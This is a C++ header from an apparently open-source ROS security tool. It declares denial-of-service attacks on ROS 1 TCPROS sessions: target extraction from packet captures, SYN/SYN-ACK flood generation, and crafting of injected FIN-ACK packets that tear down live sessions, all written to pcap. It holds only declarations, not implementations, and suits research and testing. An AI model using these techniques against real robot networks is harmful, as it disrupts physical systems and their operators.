// Copyright 2026 roswire contributors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "roswire/bytes.hpp"
#include "roswire/error.hpp"

// Transport-layer attacks against ROS 1 TCPROS sessions, phrased over
// transport-neutral segment records so everything works from captures and
// writes back to pcap without touching a network.
namespace roswire::dos {

enum class DosErrorKind { EmptyTargets, InvalidPair, IoError, NotAPcap };

class DosError : public Error {
public:
  DosError(DosErrorKind kind, const std::string& what)
      : Error(what), kind_(kind) {}
  DosErrorKind kind() const { return kind_; }

private:
  DosErrorKind kind_;
};

// TCP flag bits in on-wire positions.
namespace flag {
inline constexpr uint8_t kFin = 0x01;
inline constexpr uint8_t kSyn = 0x02;
inline constexpr uint8_t kRst = 0x04;
inline constexpr uint8_t kPsh = 0x08;
inline constexpr uint8_t kAck = 0x10;
inline constexpr uint8_t kMask = kFin | kSyn | kRst | kPsh | kAck;
}  // namespace flag

std::string flags_text(uint8_t flags);  // e.g. "FA" for FIN|ACK

struct SegmentRecord {
  uint64_t timestamp_micros = 0;
  uint32_t src_ip = 0;  // host order
  uint32_t dst_ip = 0;
  uint16_t src_port = 0;
  uint16_t dst_port = 0;
  uint8_t flags = 0;    // flag:: bits; empty only for synthetic records
  uint32_t seq = 0;
  uint32_t ack = 0;
  uint16_t ip_id = 0;
  uint8_t ttl = 64;
  Bytes payload;

  bool operator==(const SegmentRecord&) const = default;
};

using TargetMap = std::map<uint32_t, std::set<uint16_t>>;

/// Records (src ip, src port) of every segment whose payload classifies as
/// TCPROS; values come out deduplicated.
TargetMap extract_tcpros_targets(const std::vector<SegmentRecord>& segments);

struct FloodConstants {
  uint16_t ip_id = 1111;
  uint8_t ttl = 99;
  uint32_t seq = 1232345;
  uint32_t ack = 10000;
};

inline constexpr uint64_t kDefaultFloodSeed = 0x05EED0F10u;

struct FloodPlan {
  TargetMap targets;
  size_t count = 1;  // segments per (ip, port) pair
  FloodConstants constants{};
  uint32_t source_ip = 0;  // synthetic records may leave this 0
  bool syn_ack = false;    // SYN by default; SYN+ACK variant on request
  uint64_t seed = kDefaultFloodSeed;
};

/// Streaming form; source ports come from a seeded PRNG so runs reproduce.
void gen_synack_flood(const FloodPlan& plan,
                      const std::function<void(const SegmentRecord&)>& sink);
std::vector<SegmentRecord> gen_synack_flood(const FloodPlan& plan);

/// The five-way match: latest TCPROS-payload segment P, then the first later
/// segment A with reversed addressing and P.ack == A.seq.
std::optional<std::pair<SegmentRecord, SegmentRecord>> match_finack_pair(
    const std::vector<SegmentRecord>& segments);

/// After the FIN-ACK lands, the victim's FIN-ACK reply gets acknowledged to
/// complete the teardown; this rule captures that second packet.
struct FollowupRule {
  uint32_t src_ip = 0;
  uint32_t dst_ip = 0;
  uint16_t src_port = 0;
  uint16_t dst_port = 0;
  uint16_t ip_id = 0;
  uint8_t ttl = 99;

  /// ACK with seq = reply.ack and ack = reply.seq + 1; nullopt unless the
  /// reply is flagged FIN+ACK.
  std::optional<SegmentRecord> ack_for(const SegmentRecord& reply) const;

  bool operator==(const FollowupRule&) const = default;
};

struct FinAckCraft {
  SegmentRecord attack;
  FollowupRule followup;
};

/// Crafts the session-killing FIN-ACK from a matched (data, ack-reply) pair:
/// src/dst of the data segment, seq = A.ack, ack = A.seq, ip id + 1, ttl 99.
FinAckCraft craft_finack(const SegmentRecord& data_segment,
                         const SegmentRecord& ack_reply);

std::vector<SegmentRecord> read_pcap(const std::string& path);
void write_pcap(const std::string& path,
                const std::vector<SegmentRecord>& records);

}  // namespace roswire::dos
